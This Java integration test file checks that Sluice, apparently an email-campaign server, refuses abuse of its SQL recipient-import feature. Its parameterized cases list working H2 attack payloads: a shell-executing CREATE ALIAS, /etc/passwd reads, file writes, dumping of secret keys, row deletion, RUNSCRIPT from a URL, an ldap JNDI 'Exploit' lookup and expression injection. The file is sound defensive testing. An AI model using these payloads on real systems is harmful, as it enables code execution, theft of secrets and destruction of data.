package org.sluice.it;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * An operator (a logged-in user, but not the server's owner) tries to turn "import recipients from a SQL query" into
 * code execution, file access, data changes, reading Sluice's secrets or outbound connections. Every attempt must be
 * refused with the reason and change nothing: no file, no table or alias, no changed row, no connection, no secret in
 * any answer.
 */
@ExtendWith(ArquillianExtension.class)
class RecipientQueryAttackIT {

    private static final int PORT_OFFSET = 100;
    private static final String CANARY = "it-canary-secret-7f3a9c";

    private final SluiceRest operator = new SluiceRest(PORT_OFFSET, SluiceUsers.OPERATOR);
    private final SluiceRest admin = new SluiceRest(PORT_OFFSET, SluiceUsers.ADMIN);
    private final SluiceDatabase database = SluiceDatabase.suiteServer();
    private final Path scratch = Path.of(System.getProperty("sluice.it.base")).resolveSibling("attack-files");
    private CustomerDatabase customers;
    private ConnectionCounter listener;
    private long campaign;

    @Deployment(testable = false)
    static EnterpriseArchive sluice() {
        return Deployments.sluiceEar();
    }

    @BeforeEach
    void customerDatabaseAndADraftCampaign() throws Exception {
        customers = CustomerDatabase.offered(
                PORT_OFFSET,
                "1, 'ada@example.org', 'Ada Lovelace', 'gold'",
                "2, 'alan@example.org', 'Alan Turing', 'silver'");
        database.execute(
                "DELETE FROM signing_key WHERE name = 'it-canary'",
                "INSERT INTO signing_key (name, secret, created_at) VALUES ('it-canary', '" + CANARY
                        + "', CURRENT_TIMESTAMP)");
        Files.createDirectories(scratch);
        listener = new ConnectionCounter();
        campaign = operator.createCampaign("attack", "Hi", "Hello {{name}}", "<p>Hello {{name}}</p>", 10, 1);
    }

    @AfterEach
    void cleanUp() throws IOException {
        listener.close();
        database.execute("DELETE FROM signing_key WHERE name = 'it-canary'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "CREATE ALIAS SHELL AS 'String shell(String c) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).next(); }'",
                "SELECT 1; CREATE ALIAS SHELL AS 'String shell(String c) { return c; }'",
                "SELECT SHELL('id') AS email",
                "SELECT 1 AS email; CREATE TABLE pwned (x INT)",
                "SELECT FILE_READ('/etc/passwd') AS email",
                "SELECT FILE_WRITE(STRINGTOUTF8('pwned'), '{scratch}/written') AS email",
                "SELECT CSVWRITE('{scratch}/keys.csv', 'SELECT * FROM signing_key') AS email",
                "SELECT * FROM CSVREAD('/etc/passwd')",
                "SELECT * FROM FINAL TABLE (UPDATE customer SET full_name = 'pwned')",
                "WITH d AS (DELETE FROM customer RETURNING *) SELECT mail AS email FROM d",
                "RUNSCRIPT FROM 'http://127.0.0.1:{port}/script.sql'",
                "SELECT mail AS email FROM customer WHERE LINK_SCHEMA('x', '', 'jdbc:h2:tcp://127.0.0.1:{port}/x', 'sa', 'sa', 'PUBLIC') IS NULL",
                "SELECT mail AS email FROM customer FOR UPDATE",
            })
    void anAttackThroughTheQueryIsRefusedAndChangesNothing(String attack) {
        String query =
                attack.replace("{scratch}", scratch.toString()).replace("{port}", Integer.toString(listener.port()));
        List<String> customerObjects = customers.objects();
        List<String> sluiceObjects = database.objects();

        HttpResponse<String> refused = operator.raw(
                "POST",
                "campaigns/" + campaign + "/recipients/query",
                "application/json",
                SluiceRest.queryImport("customers", query));

        assertAll(
                () -> assertEquals(400, refused.statusCode(), refused.body()),
                () -> assertTrue(refused.body().contains("recipient query"), refused.body()),
                () -> assertEquals(
                        List.of("Ada Lovelace", "Alan Turing"), customers.fullNames(), "no customer row changed"),
                () -> assertEquals(customerObjects, customers.objects(), "no table or alias in the customer database"),
                () -> assertEquals(sluiceObjects, database.objects(), "no table or alias in Sluice's database"),
                () -> assertEquals(List.of(), listFiles(), "no file written"),
                () -> assertEquals(0, listener.connections(), "no outbound connection"),
                () -> assertEquals(Map.of(), database.recipients(campaign), "nothing imported"),
                () -> assertFalse(refused.body().contains(CANARY)));
    }

    @Test
    void sluicesOwnTablesCannotBeReadThroughTheRegisteredSource() {
        JsonObject imported = operator.importQuery(
                campaign, "customers", "SELECT secret AS email, name FROM signing_key ORDER BY name");

        assertEquals("FAILED", imported.getString("batchStatus"), imported.toString());
        assertFalse(imported.toString().contains(CANARY), imported.toString());
        assertFalse(operator.raw("GET", "campaigns/" + campaign + "/rejections", null, null)
                .body()
                .contains(CANARY));
        assertEquals(Map.of(), database.recipients(campaign));
    }

    @ParameterizedTest
    @ValueSource(strings = {"java:jboss/datasources/SluiceDS", "ldap://127.0.0.1:{port}/Exploit", "unregistered"})
    void aSourceAnOperatorNamesIsNeverLookedUpUnlessAnAdminRegisteredIt(String source) {
        String name = source.replace("{port}", Integer.toString(listener.port()));

        HttpResponse<String> refused = operator.raw(
                "POST",
                "campaigns/" + campaign + "/recipients/query",
                "application/json",
                SluiceRest.queryImport(name, "SELECT mail AS email FROM customer ORDER BY id"));

        assertEquals(400, refused.statusCode(), refused.body());
        assertTrue(refused.body().contains("no import source named"), refused.body());
        assertEquals(0, listener.connections(), "no outbound connection");
        assertEquals(Map.of(), database.recipients(campaign));
    }

    @Test
    void onlyAnAdminRegistersSourcesAndNeverSluicesOwnDatabaseOrARemoteName() throws Exception {
        new ServerCli(PORT_OFFSET)
                .run("if (outcome != success) of /subsystem=datasources/data-source=SluiceCopyDS:read-resource\n"
                        + "    /subsystem=datasources/data-source=SluiceCopyDS:add(jndi-name=java:jboss/datasources/SluiceCopyDS,"
                        + " driver-name=" + System.getProperty("sluice.it.db-driver") + ", jta=false,"
                        + " connection-url=\"" + System.getProperty("sluice.it.db-url") + "\", user-name="
                        + System.getProperty("sluice.it.db-user") + ", password=\""
                        + System.getProperty("sluice.it.db-password") + "\")\nend-if\n");
        String before = admin.raw("GET", "import-sources", null, null).body();

        HttpResponse<String> byOperator = operator.putImportSource("mine", CustomerDatabase.JNDI_NAME);
        HttpResponse<String> own = admin.putImportSource("own", "java:jboss/datasources/SluiceDS");
        HttpResponse<String> ownByAnotherName = admin.putImportSource("copy", "java:jboss/datasources/SluiceCopyDS");
        HttpResponse<String> remote =
                admin.putImportSource("remote", "ldap://127.0.0.1:" + listener.port() + "/Exploit");

        assertAll(
                () -> assertEquals(403, byOperator.statusCode(), byOperator.body()),
                () -> assertEquals(400, own.statusCode(), own.body()),
                () -> assertTrue(own.body().contains("Sluice's own database"), own.body()),
                () -> assertEquals(400, ownByAnotherName.statusCode(), ownByAnotherName.body()),
                () -> assertTrue(
                        ownByAnotherName.body().contains("reaches Sluice's own database"), ownByAnotherName.body()),
                () -> assertEquals(400, remote.statusCode(), remote.body()),
                () -> assertEquals(0, listener.connections(), "no outbound connection"),
                () -> assertEquals(
                        before, admin.raw("GET", "import-sources", null, null).body(), "sources unchanged"));
    }

    @Test
    void aQueryNeverTravelsInJobParametersWhereExpressionsWouldBeEvaluated() {
        JsonObject imported = operator.importQuery(
                campaign,
                "customers",
                "SELECT mail AS email, full_name AS name, '#{systemProperties[''java.home'']}' AS note FROM customer ORDER BY id");

        assertEquals("COMPLETED", imported.getString("batchStatus"), imported.toString());
        String parameters =
                database.jobParameters(imported.getJsonNumber("executionId").longValue());
        assertFalse(parameters.contains("SELECT"), parameters);
        assertEquals(
                "{\"note\":\"#{systemProperties['java.home']}\"}",
                database.mergeValues(campaign, "ada@example.org"),
                "the text is data, never evaluated");
    }

    private List<Path> listFiles() throws IOException {
        try (var files = Files.list(scratch)) {
            return files.toList();
        }
    }

    /** A loopback listener that counts who connects: the server must never be made to connect out. */
    private static final class ConnectionCounter implements AutoCloseable {
        private final ServerSocket socket;
        private final AtomicInteger connections = new AtomicInteger();

        ConnectionCounter() throws IOException {
            socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
            Thread accept = new Thread(
                    () -> {
                        while (!socket.isClosed()) {
                            try (Socket ignored = socket.accept()) {
                                connections.incrementAndGet();
                            } catch (IOException closed) {
                                return;
                            }
                        }
                    },
                    "connection-counter");
            accept.setDaemon(true);
            accept.start();
        }

        int port() {
            return socket.getLocalPort();
        }

        int connections() {
            return connections.get();
        }

        @Override
        public void close() throws IOException {
            socket.close();
        }
    }
}
